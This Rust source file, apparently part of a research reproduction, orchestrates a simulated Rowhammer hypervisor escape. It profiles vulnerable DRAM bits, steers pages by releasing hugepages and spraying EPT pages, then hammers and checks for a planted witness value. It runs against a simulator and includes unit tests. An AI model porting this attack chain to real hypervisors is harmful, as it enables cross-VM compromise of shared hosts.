@@ -1,0 +1,445 @@
+//! End-to-end attack orchestration (§5.3.2 / Table 3).
+//!
+//! A *campaign* repeats full attack attempts until the first success:
+//! spawn the attacker VM, re-locate catalogued vulnerable bits with the
+//! debug hypercall (profiling reuse, §5.3.2), run Page Steering against
+//! up to 12 of them, hammer, and try to escape. Splitting hugepages is
+//! irreversible, so every failed attempt tears the VM down and starts
+//! over — exactly the paper's procedure.
+
+use hh_dram::FlipDirection;
+use hh_buddy::MigrateType;
+use hh_hv::{Host, HvError, Vm};
+use hh_sim::addr::{Gpa, Hpa, HUGE_PAGE_SIZE};
+use hh_sim::clock::SimDuration;
+
+use crate::exploit::{EscapeProof, ExploitFailure, ExploitParams, Exploiter};
+use crate::machine::Scenario;
+use crate::profile::{FlipCatalog, ProfileParams, Profiler};
+use crate::steering::{PageSteering, SteeringParams};
+
+/// A catalogued bit re-located into the current VM's guest-physical
+/// space.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct RelocatedBit {
+    /// Guest-physical address of the vulnerable cell.
+    pub gpa: Gpa,
+    /// Bit within the byte.
+    pub bit: u8,
+    /// Flip direction.
+    pub direction: FlipDirection,
+    /// Aggressor pair in the current guest-physical space.
+    pub aggressors: [Gpa; 2],
+    /// Stability flag from profiling.
+    pub stable: bool,
+}
+
+impl RelocatedBit {
+    /// The hugepage to release for this bit.
+    pub fn hugepage_base(&self) -> Gpa {
+        self.gpa.align_down(HUGE_PAGE_SIZE)
+    }
+}
+
+/// Outcome of one attack attempt.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum AttemptOutcome {
+    /// Full escape with proof.
+    Success(EscapeProof),
+    /// Exploitation failed for the stated reason.
+    Failed(ExploitFailure),
+    /// No catalogued bit could be re-located into this VM instance.
+    NoUsableBits,
+}
+
+impl AttemptOutcome {
+    /// `true` for [`AttemptOutcome::Success`].
+    pub fn is_success(&self) -> bool {
+        matches!(self, AttemptOutcome::Success(_))
+    }
+}
+
+/// Record of one attempt.
+#[derive(Debug, Clone, PartialEq)]
+pub struct AttemptRecord {
+    /// What happened.
+    pub outcome: AttemptOutcome,
+    /// Simulated time the attempt took (including the VM respawn).
+    pub duration: SimDuration,
+    /// Bits targeted in this attempt.
+    pub bits_targeted: usize,
+    /// Sub-blocks actually released.
+    pub released: usize,
+}
+
+/// Aggregated campaign results — the raw material of Table 3.
+#[derive(Debug, Clone, Default)]
+pub struct CampaignStats {
+    /// Per-attempt records, in order.
+    pub attempts: Vec<AttemptRecord>,
+    /// Total simulated time of the campaign.
+    pub total_time: SimDuration,
+}
+
+impl CampaignStats {
+    /// 1-based index of the first successful attempt.
+    pub fn first_success(&self) -> Option<usize> {
+        self.attempts
+            .iter()
+            .position(|a| a.outcome.is_success())
+            .map(|i| i + 1)
+    }
+
+    /// Mean simulated attempt duration in minutes.
+    pub fn avg_attempt_mins(&self) -> f64 {
+        if self.attempts.is_empty() {
+            return 0.0;
+        }
+        let total: u64 = self.attempts.iter().map(|a| a.duration.as_nanos()).sum();
+        SimDuration::from_nanos(total / self.attempts.len() as u64).as_mins_f64()
+    }
+
+    /// Simulated time from campaign start to the first success.
+    pub fn time_to_first_success(&self) -> Option<SimDuration> {
+        let idx = self.first_success()?;
+        let nanos: u64 = self.attempts[..idx].iter().map(|a| a.duration.as_nanos()).sum();
+        Some(SimDuration::from_nanos(nanos))
+    }
+}
+
+/// Attack-campaign parameters.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DriverParams {
+    /// Vulnerable bits targeted per attempt (§5.3.2 uses 12: each bit
+    /// costs 1 GiB of spray budget and the VM has 12 GiB to spare).
+    pub bits_per_attempt: usize,
+    /// Exploitation settings.
+    pub exploit: ExploitParams,
+    /// Steering settings.
+    pub steering: SteeringParams,
+    /// Prefer bits profiling marked stable (they are targeted first);
+    /// when `true`, unstable bits are excluded entirely rather than used
+    /// as fallback.
+    pub stable_bits_only: bool,
+}
+
+impl DriverParams {
+    /// Paper-equivalent settings.
+    pub fn paper() -> Self {
+        Self {
+            bits_per_attempt: 12,
+            exploit: ExploitParams::paper(),
+            steering: SteeringParams {
+                // No artificial per-batch delay during real attempts —
+                // that was only for plotting Figure 3.
+                batch_delay_secs: 0,
+                ..SteeringParams::paper()
+            },
+            // Table 1's S2 row has more exploitable (90) than stable (40)
+            // bits, so the paper's 12-bit attempts must draw on unstable
+            // bits too; stable ones are simply tried first.
+            stable_bits_only: false,
+        }
+    }
+}
+
+/// The end-to-end attack driver.
+#[derive(Debug, Clone)]
+pub struct AttackDriver {
+    params: DriverParams,
+}
+
+impl AttackDriver {
+    /// Creates a driver.
+    pub fn new(params: DriverParams) -> Self {
+        Self { params }
+    }
+
+    /// Profiles the current VM and converts the result into a reusable
+    /// host-physical catalogue.
+    ///
+    /// # Errors
+    ///
+    /// Propagates profiling errors.
+    pub fn profile_and_catalog(
+        &self,
+        host: &mut Host,
+        vm: &mut Vm,
+        profile: ProfileParams,
+    ) -> Result<FlipCatalog, HvError> {
+        let profiler = Profiler::new(profile);
+        let report = profiler.run(host, vm)?;
+        profiler.to_catalog(vm, &report)
+    }
+
+    /// Re-locates catalogued bits into a (fresh) VM instance using the
+    /// debug hypercall: a bit is usable when both its vulnerable cell's
+    /// hugepage and its aggressors' hugepage are currently backed by the
+    /// VM, with the cell inside the unpluggable virtio-mem region.
+    pub fn relocate(&self, vm: &Vm, catalog: &FlipCatalog) -> Vec<RelocatedBit> {
+        // HPA hugepage base → GPA hugepage base for every backed chunk.
+        let mut hpa_to_gpa = std::collections::HashMap::new();
+        for (base, len) in vm.usable_ranges() {
+            for off in (0..len).step_by(HUGE_PAGE_SIZE as usize) {
+                let gpa = base.add(off);
+                if let Ok(hpa) = vm.hypercall_gpa_to_hpa(gpa) {
+                    if hpa.is_aligned(HUGE_PAGE_SIZE) {
+                        hpa_to_gpa.insert(hpa.raw(), gpa);
+                    }
+                }
+            }
+        }
+        let region = vm.virtio_mem();
+        let region_base = region.region_base();
+        let region_size = region.region_size();
+        let mut out = Vec::new();
+        let mut entries: Vec<&crate::profile::CatalogEntry> = catalog.entries.iter().collect();
+        // Stable bits flip most reliably: target them first.
+        entries.sort_by_key(|e| !e.stable);
+        for e in entries {
+            if self.params.stable_bits_only && !e.stable {
+                continue;
+            }
+            let cell_hp_hpa = e.cell_hpa.align_down(HUGE_PAGE_SIZE);
+            let Some(&cell_hp_gpa) = hpa_to_gpa.get(&cell_hp_hpa.raw()) else {
+                continue;
+            };
+            let Some(&aggr_hp_gpa) = hpa_to_gpa.get(&e.aggressor_hugepage_hpa.raw()) else {
+                continue;
+            };
+            let gpa = cell_hp_gpa.add(e.cell_hpa.offset_from(cell_hp_hpa));
+            // Must be releasable: inside the virtio-mem region and in a
+            // different hugepage than the aggressors.
+            if gpa < region_base || gpa.offset_from(region_base) >= region_size {
+                continue;
+            }
+            if cell_hp_gpa == aggr_hp_gpa {
+                continue;
+            }
+            out.push(RelocatedBit {
+                gpa,
+                bit: e.bit,
+                direction: e.direction,
+                aggressors: [
+                    aggr_hp_gpa.add(e.aggressor_offsets[0]),
+                    aggr_hp_gpa.add(e.aggressor_offsets[1]),
+                ],
+                stable: e.stable,
+            });
+        }
+        out
+    }
+
+    /// Runs one full attempt against an existing VM. The VM is consumed:
+    /// hugepage splits are irreversible, so it is destroyed afterwards
+    /// either way.
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypervisor errors (including the quarantine NACK from
+    /// the release step).
+    pub fn run_attempt(
+        &self,
+        host: &mut Host,
+        mut vm: Vm,
+        catalog: &FlipCatalog,
+        target_hpa: Hpa,
+    ) -> Result<AttemptRecord, HvError> {
+        let start = host.now();
+        let candidates = self.relocate(&vm, catalog);
+        // Greedy conflict-free selection: a bit's victim hugepage must not
+        // host another bit's aggressors (releasing it would unmap them),
+        // and vice versa.
+        let mut bits: Vec<RelocatedBit> = Vec::new();
+        let mut victim_set: Vec<Gpa> = Vec::new();
+        let mut aggressor_set: Vec<Gpa> = Vec::new();
+        for bit in candidates {
+            let victim_hp = bit.hugepage_base();
+            let aggr_hp = bit.aggressors[0].align_down(HUGE_PAGE_SIZE);
+            if aggressor_set.contains(&victim_hp) || victim_set.contains(&aggr_hp) {
+                continue;
+            }
+            victim_set.push(victim_hp);
+            aggressor_set.push(aggr_hp);
+            bits.push(bit);
+            if bits.len() >= self.params.bits_per_attempt {
+                break;
+            }
+        }
+        if bits.is_empty() {
+            let duration = host.elapsed_since(start);
+            vm.destroy(host);
+            return Ok(AttemptRecord {
+                outcome: AttemptOutcome::NoUsableBits,
+                duration,
+                bits_targeted: 0,
+                released: 0,
+            });
+        }
+
+        let steering = PageSteering::new(self.params.steering.clone());
+        let exploiter = Exploiter::new(self.params.exploit.clone());
+
+        // Exhaust noise, stamp magic while chunks are still huge-mapped,
+        // release victims, spray EPT pages, then hammer and hunt.
+        let result: Result<(AttemptOutcome, usize), HvError> = (|| {
+            steering.exhaust_noise(host, &mut vm)?;
+            exploiter.stamp_magic(host, &mut vm)?;
+            let victims: Vec<Gpa> = bits.iter().map(|b| b.hugepage_base()).collect();
+            let released = steering.release_hugepages(host, &mut vm, &victims)?;
+            steering.spray_ept(host, &mut vm, PageSteering::spray_budget(released.len()))?;
+            // Bits whose hugepage is gone are the live targets.
+            let outcome = match exploiter.run(host, &mut vm, &bits, target_hpa)? {
+                Ok(proof) => AttemptOutcome::Success(proof),
+                Err(failure) => AttemptOutcome::Failed(failure),
+            };
+            Ok((outcome, released.len()))
+        })();
+
+        let (outcome, released) = match result {
+            Ok(pair) => pair,
+            Err(e) => {
+                // A failed attempt must still release the VM's resources
+                // (the paper's procedure reboots either way).
+                vm.destroy(host);
+                return Err(e);
+            }
+        };
+        let duration = host.elapsed_since(start);
+        let bits_targeted = bits.len();
+        vm.destroy(host);
+        Ok(AttemptRecord {
+            outcome,
+            duration,
+            bits_targeted,
+            released,
+        })
+    }
+
+    /// Runs attempts (respawning the VM each time) until the first
+    /// success or `max_attempts`. Plants a host-side witness page so a
+    /// successful escape is independently verifiable, as in the paper's
+    /// §5.3.2 experiment.
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypervisor errors.
+    pub fn campaign(
+        &self,
+        scenario: &Scenario,
+        host: &mut Host,
+        catalog: &FlipCatalog,
+        max_attempts: usize,
+    ) -> Result<CampaignStats, HvError> {
+        self.campaign_with_progress(scenario, host, catalog, max_attempts, |_, _| {})
+    }
+
+    /// [`Self::campaign`] with a per-attempt progress callback
+    /// `(attempt_index_1_based, record)` — long experiment harnesses use
+    /// it to report liveness.
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypervisor errors.
+    pub fn campaign_with_progress(
+        &self,
+        scenario: &Scenario,
+        host: &mut Host,
+        catalog: &FlipCatalog,
+        max_attempts: usize,
+        mut progress: impl FnMut(usize, &AttemptRecord),
+    ) -> Result<CampaignStats, HvError> {
+        // The hypervisor page with a magic value (§5.3.2).
+        let witness = host.buddy_mut().alloc_page(MigrateType::Unmovable)?;
+        host.dram_mut()
+            .store_mut()
+            .write_u64(witness.base_hpa(), 0x4b56_4d45_5343_4150); // "KVMESCAP"
+
+        let campaign_start = host.now();
+        let mut stats = CampaignStats::default();
+        for i in 0..max_attempts {
+            let respawn_start = host.now();
+            let vm = host.create_vm(scenario.vm_config())?;
+            let mut record = self.run_attempt(host, vm, catalog, witness.base_hpa())?;
+            // Attempt cost includes the VM respawn (§5.3: failed attempts
+            // force a restart).
+            record.duration = host.elapsed_since(respawn_start);
+            let success = record.outcome.is_success();
+            if let AttemptOutcome::Success(proof) = &record.outcome {
+                assert_eq!(
+                    proof.value_read, 0x4b56_4d45_5343_4150,
+                    "escape proof must read the planted witness"
+                );
+            }
+            progress(i + 1, &record);
+            stats.attempts.push(record);
+            if success {
+                break;
+            }
+        }
+        stats.total_time = host.elapsed_since(campaign_start);
+        Ok(stats)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::machine::Scenario;
+
+    fn driver_for_tiny() -> DriverParams {
+        DriverParams {
+            bits_per_attempt: 4,
+            stable_bits_only: true,
+            ..DriverParams::paper()
+        }
+    }
+
+    #[test]
+    fn relocate_survives_a_respawn() {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let driver = AttackDriver::new(driver_for_tiny());
+        let catalog = driver
+            .profile_and_catalog(&mut host, &mut vm, sc.profile_params())
+            .unwrap();
+        vm.destroy(&mut host);
+
+        if catalog.entries.is_empty() {
+            return; // seed produced no exploitable stable bits — fine
+        }
+        let vm2 = host.create_vm(sc.vm_config()).unwrap();
+        let relocated = driver.relocate(&vm2, &catalog);
+        // Most chunks land back in the same frames (LIFO reuse), so most
+        // catalogued bits relocate.
+        for bit in &relocated {
+            assert_ne!(bit.hugepage_base(), bit.aggressors[0].align_down(HUGE_PAGE_SIZE));
+            // Relocated coordinates are consistent with the hypercall.
+            let hpa = vm2.hypercall_gpa_to_hpa(bit.gpa).unwrap();
+            assert!(catalog.entries.iter().any(|e| e.cell_hpa == hpa));
+        }
+        vm2.destroy(&mut host);
+    }
+
+    #[test]
+    fn campaign_attempts_are_recorded_and_bounded() {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let driver = AttackDriver::new(driver_for_tiny());
+        let catalog = driver
+            .profile_and_catalog(&mut host, &mut vm, sc.profile_params())
+            .unwrap();
+        vm.destroy(&mut host);
+
+        let stats = driver.campaign(&sc, &mut host, &catalog, 3).unwrap();
+        assert!(!stats.attempts.is_empty() && stats.attempts.len() <= 3);
+        assert!(stats.total_time.as_nanos() > 0);
+        for a in &stats.attempts {
+            assert!(a.duration.as_nanos() > 0);
+        }
+        // Host is left balanced: all VMs destroyed.
+        let _ = stats.avg_attempt_mins();
+    }
+}
